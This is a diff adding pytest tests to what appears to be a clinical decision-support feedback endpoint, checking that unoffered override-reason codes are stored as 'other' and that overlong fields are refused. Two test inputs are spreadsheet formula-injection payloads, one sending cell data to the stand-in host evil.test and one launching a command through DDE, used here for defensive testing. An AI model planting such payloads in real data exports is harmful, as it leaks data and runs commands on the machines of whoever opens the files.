@@ -100,3 +100,40 @@ def test_an_empty_or_missing_feedback_list_is_400(client):
 def test_feedback_for_an_unknown_service_is_404(client):
     item = {"card": "c", "outcome": "overridden", "outcomeTimestamp": "2026-11-22T10:05:31Z"}
     assert client.post("/cds-services/nope/feedback", json={"feedback": [item]}).status_code == 404
+
+
+def test_only_a_reason_the_cards_offer_is_recorded_anything_else_is_other(client, settings, card):
+    offered = card["overrideReasons"][0]
+    sent = [
+        offered,
+        {"system": "urn:pgx-loop:override-reason", "code": '=HYPERLINK("http://evil.test/?x="&A1,"Details")'},
+        {"system": "urn:pgx-loop:override-reason", "code": "=cmd|' /C calc'!A0"},
+        {"system": "http://example.org/other-system", "code": offered["code"]},
+    ]
+    items = [
+        {"card": card["uuid"], "outcome": "overridden", "outcomeTimestamp": f"2026-11-22T10:0{i}:00Z",
+         "overrideReason": {"reason": reason}}
+        for i, reason in enumerate(sent)
+    ]  # fmt: skip
+    assert client.post(FEEDBACK, json={"feedback": items}).json() == {"recorded": 4, "duplicates": 0}
+    codes = [event["override_reason"]["code"] for event in feedback_events(settings)]
+    assert codes == [offered["code"], "other", "other", "other"]
+    assert "HYPERLINK" not in str(feedback_events(settings))
+
+
+@pytest.mark.parametrize(
+    "item",
+    [
+        {"card": "c" * 129, "outcome": "overridden"},
+        {"card": "c", "outcome": "accepted", "acceptedSuggestions": [{"id": "s" * 129}]},
+        {"card": "c", "outcome": "overridden",
+         "overrideReason": {"reason": {"system": "urn:pgx-loop:override-reason", "code": "x" * 129}}},
+        {"card": "c", "outcome": "overridden", "overrideReason": {"userComment": "x" * 4001}},
+    ],
+    ids=["card", "suggestion id", "reason code", "comment"],
+)  # fmt: skip
+def test_overlong_feedback_fields_are_refused(client, settings, item):
+    response = client.post(FEEDBACK, json={"feedback": [{**item, "outcomeTimestamp": "2026-11-22T10:05:31Z"}]})
+    assert response.status_code == 400
+    assert "x" * 100 not in response.text and "c" * 100 not in response.text  # the reason names, never echoes
+    assert feedback_events(settings) == []
